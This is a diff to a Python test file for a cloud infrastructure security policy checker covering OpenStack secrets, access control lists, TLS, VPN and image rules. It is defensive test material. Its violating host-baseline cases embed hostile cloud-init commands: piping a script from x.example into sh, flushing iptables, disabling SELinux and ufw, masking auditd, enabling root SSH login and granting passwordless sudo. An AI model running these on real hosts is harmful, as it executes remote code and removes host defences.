@@ -11,7 +11,7 @@ from typing import Any
 
 from ccsec.policies.resources import RegisteredResource
 from ccsec.policies.rules import _props as t
-from ccsec_testbeds.synthetic import BASELINE_USER_DATA, compliant_stack, res, sg_rule, with_inputs
+from ccsec_testbeds.synthetic import baseline_user_data, compliant_stack, res, sg_rule, with_inputs
 
 Stack = list[RegisteredResource]
 Builder = Callable[[Stack], Stack]
@@ -57,6 +57,17 @@ def chain(*builders: Builder) -> Builder:
 
 def same(stack: Stack) -> Stack:
     return stack
+
+
+_CACHE: list[Stack] = []
+
+
+def compliant_stack_cache() -> Stack:
+    from ccsec_testbeds.synthetic import compliant_stack
+
+    if not _CACHE:
+        _CACHE.append(compliant_stack())
+    return _CACHE[0]
 
 
 def five_line_ssh(_: Stack) -> Stack:
@@ -407,7 +418,7 @@ COMPLIANT: list[Case] = [
     (
         "instance-host-baseline",
         "leading-blank-lines",
-        swap(HOST, userData="\n" + BASELINE_USER_DATA.format(host="x")),
+        swap(HOST, userData="\n" + baseline_user_data("x")),
         None,
     ),
     (
@@ -617,3 +628,393 @@ NET_COMPLIANT: list[Case] = [
 ]
 VIOLATING += NET_VIOLATING
 COMPLIANT += NET_COMPLIANT
+
+
+# ---- secrets, identity, data, TLS inside, VPN, images, host baseline (issue 11) ----
+PROVIDER = "pulumi:providers:openstack"
+GOOD_RULE = {"service": "object-store", "method": "PUT", "path": "/v1/AUTH_x/synthetic-backups/**"}
+
+
+def one(type_token: str, name: str, inputs: dict[str, Any], **kw: Any) -> Builder:
+    return add(lambda _: res(type_token, name, inputs, **kw))
+
+
+def role_assignment(role_name: str) -> Builder:
+    def build(stack: Stack) -> Stack:
+        role = res(t.ROLE, f"role-{role_name}", {"name": role_name})
+        grant = res(
+            t.ROLE_ASSIGNMENT, f"grant-{role_name}", {"roleId": "r", "userId": "u", "projectId": "p"}, deps=(role,)
+        )
+        return [*stack, role, grant]
+
+    return build
+
+
+def ec2_for(user_name: str | None, project: str | None = "p") -> Builder:
+    def build(stack: Stack) -> Stack:
+        extra: list[RegisteredResource] = []
+        deps: tuple[RegisteredResource, ...] = ()
+        if user_name:
+            user = res(t.IDENTITY_USER, f"user-{user_name}", {"name": user_name})
+            extra.append(user)
+            deps = (user,)
+        inputs = {"userId": "u"} if user_name else {}
+        if project:
+            inputs["projectId"] = project
+        return [*stack, *extra, res(t.EC2_CREDENTIAL, "ec2", inputs, deps=deps)]
+
+    return build
+
+
+def pool(**inputs: Any) -> Builder:
+    base = {"protocol": "HTTP", "tlsEnabled": True, "tlsVersions": ["TLSv1.2", "TLSv1.3"], "caTlsContainerRef": "ca"}
+    return one(t.POOL, "pool", {k: v for k, v in {**base, **inputs}.items() if v is not None})
+
+
+def pool_with_monitor(stack: Stack) -> Stack:
+    p = res(t.POOL, "pool", {"protocol": "HTTPS"})
+    return [*stack, p, res(t.MONITOR, "monitor", {"poolId": "pool-id", "type": "TLS-HELLO"}, deps=(p,))]
+
+
+STRONG_IKE = {"authAlgorithm": "sha256", "encryptionAlgorithm": "aes-256", "pfs": "group14", "ikeVersion": "v2"}
+STRONG_IPSEC = {
+    "authAlgorithm": "sha256",
+    "encryptionAlgorithm": "aes-256",
+    "pfs": "group19",
+    "transformProtocol": "esp",
+}
+SIGNED = {
+    "img_signature": "c2ln",
+    "img_signature_hash_method": "SHA-256",
+    "img_signature_key_type": "RSA-PSS",
+    "img_signature_certificate_uuid": "uuid",
+}
+PRIVATE_ACL = {"read": {"projectAccess": False}}
+
+
+def plain(r: RegisteredResource) -> RegisteredResource:
+    """The same registration with no input marked secret (a literal in the program)."""
+    from dataclasses import replace
+
+    return replace(r, secret_inputs=frozenset())
+
+
+def user_data_with(extra: str) -> Builder:
+    """The synthetic baseline plus one edit, digest recomputed (the attacker's best effort)."""
+    from ccsec_testbeds.synthetic import BASELINE_BODY
+
+    return swap(HOST, userData=baseline_user_data(HOST, BASELINE_BODY + extra))
+
+
+def appended_after_render(extra: str) -> Builder:
+    return swap(HOST, userData=baseline_user_data(HOST) + extra)
+
+
+VIOLATING += [
+    ("instance-no-admin-pass", "set", swap(HOST, adminPass="hunter2hunter2"), None),
+    ("keypair-public-key-only", "generated", one(t.KEYPAIR, "kp", {"name": "ops"}), None),
+    (
+        "no-plaintext-secret-inputs",
+        "psk-literal",
+        one("openstack:vpnaas/siteConnection:SiteConnection", "vpn", {"psk": "abc"}),
+        None,
+    ),
+    (
+        "no-plaintext-secret-inputs",
+        "nested-token",
+        one("openstack:objectstorage/accountV1:AccountV1", "acct", {"headers": {"X-Auth-Token": "t"}}),
+        None,
+    ),
+    (
+        "no-plaintext-secret-inputs",
+        "barbican-payload",
+        lambda st: [plain(r) if r.name == "tls-cert" else r for r in st],
+        None,
+    ),
+    ("no-plaintext-secret-inputs", "sync-key", swap("backup-primary", containerSyncKey="k"), None),
+    (
+        "provider-secure-transport",
+        "insecure",
+        one(PROVIDER, "os", {"insecure": "true", "authUrl": "https://k:5000/v3"}),
+        None,
+    ),
+    ("provider-secure-transport", "http-auth-url", one(PROVIDER, "os", {"authUrl": "HTTP://keystone:5000/v3"}), None),
+    (
+        "provider-secure-transport",
+        "password",
+        one(PROVIDER, "os", {"authUrl": "https://k/v3", "password": "p"}, secret=("password",)),
+        None,
+    ),
+    ("appcred-access-rules-narrow", "star-method", swap(CRED, accessRules=[{**GOOD_RULE, "method": "*"}]), None),
+    ("appcred-access-rules-narrow", "double-star-path", swap(CRED, accessRules=[{**GOOD_RULE, "path": "/**"}]), None),
+    ("appcred-access-rules-narrow", "account-wide", swap(CRED, accessRules=[{**GOOD_RULE, "path": "/v1/*/**"}]), None),
+    ("appcred-access-rules-narrow", "any-service", swap(CRED, accessRules=[{**GOOD_RULE, "service": None}]), None),
+    ("appcred-expires", "beyond-400-days", swap(CRED, expiresAt="2099-01-01T00:00:00Z"), None),
+    ("identity-no-admin-role-assignment", "admin-role", role_assignment("admin"), None),
+    ("identity-no-admin-role-assignment", "cloud-admin-role", role_assignment("cloud_admin"), None),
+    (
+        "identity-no-admin-role-assignment",
+        "literal-id",
+        one(t.ROLE_ASSIGNMENT, "g", {"roleId": "id-1", "userId": "u"}),
+        {"identity-no-admin-role-assignment": {"adminRoleIds": ["id-1"]}},
+    ),
+    ("ec2-credential-backup-only", "own-user", ec2_for(None), None),
+    ("ec2-credential-backup-only", "other-user", ec2_for("alice"), None),
+    ("ec2-credential-backup-only", "no-project", ec2_for("backup-s3", project=None), None),
+    ("swift-no-public-read", "ref-star", swap("backup-primary", containerRead=".ref:*"), None),
+    ("swift-no-public-read", "referrer-spaces", swap("backup-primary", containerRead="  .referrer :  * "), None),
+    ("swift-no-public-read", "domain-referrer", swap("backup-primary", containerRead=".r:*.example.com"), None),
+    ("swift-no-public-read", "star-star", swap("backup-primary", containerRead="*:*"), None),
+    ("swift-no-public-read", "bad-designator", swap("backup-primary", containerRead=".R:*"), None),
+    ("swift-no-listings", "spaced", swap("backup-primary", containerRead=" .rlistings , proj:u"), None),
+    ("swift-acl-no-cross-project", "foreign-project", swap("backup-primary", containerRead="other-project:*"), None),
+    ("swift-acl-no-cross-project", "any-project-user", swap("backup-primary", containerRead="*:alice"), None),
+    ("swift-no-write-acl", "write-grant", swap("backup-primary", containerWrite="ops-project:deployer"), None),
+    (
+        "swift-no-foreign-sync",
+        "other-cluster",
+        swap("backup-primary", containerSyncTo="//realm/elsewhere/AUTH_x/c"),
+        None,
+    ),
+    (
+        "swift-no-foreign-sync",
+        "http-url",
+        swap("backup-primary", containerSyncTo="http://swift.example/v1/AUTH_x/c"),
+        {"swift-no-foreign-sync": {"allowedSyncTargets": ["http://swift.example/v1/AUTH_x"]}},
+    ),
+    (
+        "share-access-private-only",
+        "anywhere",
+        one(t.SHARE_ACCESS, "sa", {"accessType": "ip", "accessTo": "0.0.0.0/0", "accessLevel": "rw"}),
+        None,
+    ),
+    (
+        "share-access-private-only",
+        "anywhere-v6-spelling",
+        one(t.SHARE_ACCESS, "sa", {"accessType": "IP", "accessTo": "0::/0"}),
+        None,
+    ),
+    (
+        "share-access-private-only",
+        "mapped-v4",
+        one(t.SHARE_ACCESS, "sa", {"accessType": "ip", "accessTo": "::ffff:0.0.0.0/96"}),
+        None,
+    ),
+    (
+        "share-access-private-only",
+        "public-host",
+        one(t.SHARE_ACCESS, "sa", {"accessType": "ip", "accessTo": "8.8.8.8"}),
+        None,
+    ),
+    ("keymanager-acl-private", "default-acl", swap("tls-key", acl=None), None),
+    ("keymanager-acl-private", "project-access", swap("tls", acl={"read": {"projectAccess": True}}), None),
+    (
+        "keymanager-secret-expires",
+        "passphrase-forever",
+        one(t.SECRET, "pp", {"secretType": "passphrase", "payload": "x", "acl": PRIVATE_ACL}, secret=("payload",)),
+        None,
+    ),
+    (
+        "instance-block-devices-encrypted",
+        "ephemeral",
+        swap(
+            HOST,
+            blockDevices=[
+                *find(compliant_stack_cache(), HOST).inputs["blockDevices"],
+                {"sourceType": "blank", "destinationType": "local", "volumeSize": 10},
+            ],
+        ),
+        None,
+    ),
+    (
+        "instance-block-devices-encrypted",
+        "blank-plain-volume",
+        swap(
+            HOST,
+            blockDevices=[
+                *find(compliant_stack_cache(), HOST).inputs["blockDevices"],
+                {"sourceType": "blank", "destinationType": "volume", "volumeSize": 10, "volumeType": "standard"},
+            ],
+        ),
+        None,
+    ),
+    ("lb-pool-reencrypts", "plain-http", pool(tlsEnabled=False), None),
+    ("lb-pool-reencrypts", "tcp-unset", pool(protocol="TCP", tlsEnabled=None), None),
+    ("lb-pool-reencrypts", "old-tls", pool(tlsVersions=["TLSv1", "TLSv1.2"]), None),
+    ("lb-pool-verifies-backend", "no-ca", pool(caTlsContainerRef=None), None),
+    ("lb-pool-health-monitor", "unmonitored", pool(), None),
+    ("vpn-ike-policy-strong", "defaults", one(t.IKE_POLICY, "ike", {"name": "ike"}), None),
+    ("vpn-ike-policy-strong", "sha1", one(t.IKE_POLICY, "ike", {**STRONG_IKE, "authAlgorithm": "sha1"}), None),
+    ("vpn-ike-policy-strong", "3des", one(t.IKE_POLICY, "ike", {**STRONG_IKE, "encryptionAlgorithm": "3des"}), None),
+    ("vpn-ike-policy-strong", "ikev1", one(t.IKE_POLICY, "ike", {**STRONG_IKE, "ikeVersion": "v1"}), None),
+    ("vpn-ike-policy-strong", "group5", one(t.IKE_POLICY, "ike", {**STRONG_IKE, "pfs": "group5"}), None),
+    ("vpn-ipsec-policy-strong", "defaults", one(t.IPSEC_POLICY, "ipsec", {}), None),
+    (
+        "vpn-ipsec-policy-strong",
+        "ah-only",
+        one(t.IPSEC_POLICY, "ipsec", {**STRONG_IPSEC, "transformProtocol": "ah"}),
+        None,
+    ),
+    ("image-not-public", "public", one(t.IMAGE, "img", {"visibility": "public", "properties": SIGNED}), None),
+    ("image-not-public", "community", one(t.IMAGE, "img", {"visibility": "community", "properties": SIGNED}), None),
+    ("image-signed", "unsigned", one(t.IMAGE, "img", {"visibility": "private"}), None),
+    ("image-signed", "md5", one(t.IMAGE, "img", {"properties": {**SIGNED, "img_signature_hash_method": "MD5"}}), None),
+    (
+        "image-source-https",
+        "http",
+        one(t.IMAGE, "img", {"properties": SIGNED, "imageSourceUrl": "http://mirror/debian.qcow2"}),
+        None,
+    ),
+    (
+        "image-source-https",
+        "no-checksum",
+        one(t.IMAGE, "img", {"properties": SIGNED, "imageSourceUrl": "https://m/d", "verifyChecksum": False}),
+        None,
+    ),
+    ("instance-host-baseline", "markers-then-flush", user_data_with("  - [nft, flush, ruleset]\n"), None),
+    ("instance-host-baseline", "markers-then-stop-nft", user_data_with("  - systemctl stop nftables\n"), None),
+    (
+        "instance-host-baseline",
+        "markers-then-mask-auditd",
+        user_data_with("  - [systemctl, mask, --now, auditd.service]\n"),
+        None,
+    ),
+    (
+        "instance-host-baseline",
+        "root-login-sed",
+        user_data_with("  - sed -i 's/^PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config\n"),
+        None,
+    ),
+    ("instance-host-baseline", "iptables-flush", user_data_with("  - iptables -F\n"), None),
+    ("instance-host-baseline", "setenforce", user_data_with("  - setenforce 0\n"), None),
+    ("instance-host-baseline", "ufw", user_data_with("  - ufw disable\n"), None),
+    ("instance-host-baseline", "curl-sh", user_data_with("  - curl -fsSL https://x.example/i.sh | sh\n"), None),
+    ("instance-host-baseline", "bootcmd", user_data_with("bootcmd:\n  - [echo, hi]\n"), None),
+    (
+        "instance-host-baseline",
+        "sshd-drop-in",
+        user_data_with(
+            'write_files:\n  - path: /etc/ssh/sshd_config.d/00-x.conf\n    content: "PermitRootLogin yes\\n"\n'
+        ),
+        None,
+    ),
+    (
+        "instance-host-baseline",
+        "nopasswd",
+        user_data_with("users:\n  - name: ops\n    sudo: ALL=(ALL) NOPASSWD:ALL\n"),
+        None,
+    ),
+    (
+        "instance-host-baseline",
+        "appended-after-render",
+        appended_after_render("  - [nft, add, rule, inet, filter, input, accept]\n"),
+        None,
+    ),
+    ("instance-host-baseline", "ssh-pwauth", user_data_with("ssh_pwauth: true\n"), None),
+]
+
+COMPLIANT += [
+    ("instance-no-admin-pass", "unset", same, None),
+    (
+        "keypair-public-key-only",
+        "imported",
+        one(t.KEYPAIR, "kp", {"name": "ops", "publicKey": "ssh-ed25519 AAAA"}),
+        None,
+    ),
+    (
+        "no-plaintext-secret-inputs",
+        "psk-secret",
+        one("openstack:vpnaas/siteConnection:SiteConnection", "vpn", {"psk": "abc"}, secret=("psk",)),
+        None,
+    ),
+    ("no-plaintext-secret-inputs", "refs-and-types", same, None),
+    (
+        "provider-secure-transport",
+        "clouds-yaml",
+        one(PROVIDER, "os", {"cloud": "ccaas", "authUrl": "https://k:5000/v3", "insecure": "false"}),
+        None,
+    ),
+    ("appcred-access-rules-narrow", "container-rules", same, None),
+    ("identity-no-admin-role-assignment", "member", role_assignment("member"), None),
+    ("ec2-credential-backup-only", "backup-user", ec2_for("prod-backup-s3"), None),
+    (
+        "swift-no-public-read",
+        "negative-referrer-only",
+        swap("backup-primary", containerRead=".r:-evil.example.com"),
+        None,
+    ),
+    (
+        "swift-acl-no-cross-project",
+        "allowed-project",
+        swap("backup-primary", containerRead="audit-project:*"),
+        {"swift-acl-no-cross-project": {"allowedAclProjects": ["audit-project"]}},
+    ),
+    (
+        "swift-no-write-acl",
+        "allowed-writer",
+        swap("backup-primary", containerWrite="ops:deployer"),
+        {"swift-no-write-acl": {"allowedWriteGrantees": ["ops:deployer"]}},
+    ),
+    (
+        "swift-no-foreign-sync",
+        "approved-target",
+        swap("backup-primary", containerSyncTo="//realm/dr/AUTH_x/c"),
+        {"swift-no-foreign-sync": {"allowedSyncTargets": ["//realm/dr"]}},
+    ),
+    (
+        "share-access-private-only",
+        "app-subnet",
+        one(t.SHARE_ACCESS, "sa", {"accessType": "ip", "accessTo": "10.20.3.0/24"}),
+        None,
+    ),
+    (
+        "share-access-private-only",
+        "cert-rule",
+        one(t.SHARE_ACCESS, "sa", {"accessType": "cert", "accessTo": "app.example"}),
+        None,
+    ),
+    ("keymanager-acl-private", "private", same, None),
+    ("keymanager-secret-expires", "certificate-material", same, None),
+    (
+        "keymanager-secret-expires",
+        "passphrase-expiring",
+        one(
+            t.SECRET,
+            "pp",
+            {"secretType": "passphrase", "payload": "x", "acl": PRIVATE_ACL, "expiration": "2027-03-01T00:00:00Z"},
+            secret=("payload",),
+        ),
+        None,
+    ),
+    (
+        "instance-block-devices-encrypted",
+        "encrypted-data-volume",
+        swap(
+            HOST,
+            blockDevices=[
+                *find(compliant_stack_cache(), HOST).inputs["blockDevices"],
+                {"sourceType": "blank", "destinationType": "volume", "volumeSize": 10, "volumeType": "encrypted-luks2"},
+            ],
+        ),
+        None,
+    ),
+    ("lb-pool-reencrypts", "passthrough", pool(protocol="HTTPS", tlsEnabled=None), None),
+    ("lb-pool-verifies-backend", "with-ca", pool(), None),
+    ("lb-pool-health-monitor", "monitored", pool_with_monitor, None),
+    ("vpn-ike-policy-strong", "strong", one(t.IKE_POLICY, "ike", STRONG_IKE), None),
+    ("vpn-ipsec-policy-strong", "strong", one(t.IPSEC_POLICY, "ipsec", STRONG_IPSEC), None),
+    ("image-not-public", "shared", one(t.IMAGE, "img", {"visibility": "shared", "properties": SIGNED}), None),
+    ("image-signed", "signed", one(t.IMAGE, "img", {"properties": SIGNED}), None),
+    (
+        "image-source-https",
+        "https",
+        one(t.IMAGE, "img", {"properties": SIGNED, "imageSourceUrl": "https://m/d.qcow2"}),
+        None,
+    ),
+    (
+        "instance-host-baseline",
+        "extra-harmless-runcmd",
+        user_data_with("  - [systemctl, restart, chrony.service]\n"),
+        None,
+    ),
+]
